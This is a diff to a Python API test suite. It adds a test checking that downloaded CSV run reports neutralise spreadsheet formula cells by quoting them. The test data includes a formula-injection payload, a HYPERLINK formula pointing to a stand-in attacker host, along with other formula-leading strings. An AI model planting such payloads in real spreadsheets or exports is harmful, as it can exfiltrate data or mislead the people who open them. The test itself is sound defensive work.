@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
+import pyarrow as pa
+
 from shared.models import Run, RunStatus
+from shared.pipeline.finish import write_report
 from shared.pipeline.messages import RunMessage
 from shared.services import Services
 from tests.api.client import ADMIN, CONTRIBUTOR, VIEWER, ApiClient
@@ -112,6 +117,33 @@ async def test_the_report_is_csv_once_written(api: ApiClient, dev: Services, emu
     assert after.status == 200 and after.body == csv
     assert (after.header("Content-Type") or "").startswith("text/csv")
     assert f"{unique}-{run_id}-report.csv" in (after.header("Content-Disposition") or "")
+
+
+FORMULA_CELLS = ['=HYPERLINK("http://evil.example/?x","open")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r\n=1", "ok"]
+
+
+async def test_the_report_the_product_writes_neutralises_formula_cells_in_every_text_column(
+    api: ApiClient, dev: Services, emu: Emu, unique: str
+) -> None:
+    # given a run whose report rows start like formulas in every text column (email, outcome, reason, segment)
+    await make_export(api, emu, unique)
+    run_id = (await api.call("POST", f"exports/{unique}/runs", as_=ADMIN)).json()["id"]
+    n = len(FORMULA_CELLS)
+    text = pa.array(FORMULA_CELLS, pa.string())
+    rows = pa.table({"email": text, "outcome": text, "reason": text, "segment": text, "row": pa.array(range(1, n + 1))})
+    await write_report(dev, await export_id_of(dev, unique), run_id, rows)
+    await finish(dev, unique, run_id)
+
+    # when a contributor downloads it and a CSV reader (a spreadsheet's import) reads it
+    reply = await api.call("GET", f"exports/{unique}/runs/{run_id}/report", as_=CONTRIBUTOR)
+    assert reply.status == 200, reply.body
+    read = list(csv.DictReader(io.StringIO(reply.body.decode(), newline="")))
+
+    # then each cell is the same text behind a single quote, still one cell (quoted), and "ok" is untouched
+    expected = [("'" + v if v != "ok" else v) for v in FORMULA_CELLS]
+    for column in ("email", "outcome", "reason", "segment"):
+        assert [r[column] for r in read] == expected, column
+    assert [r["row"] for r in read] == [str(i) for i in range(1, n + 1)]
 
 
 async def test_run_ids_and_names_in_urls_are_checked(api: ApiClient, dev: Services) -> None:
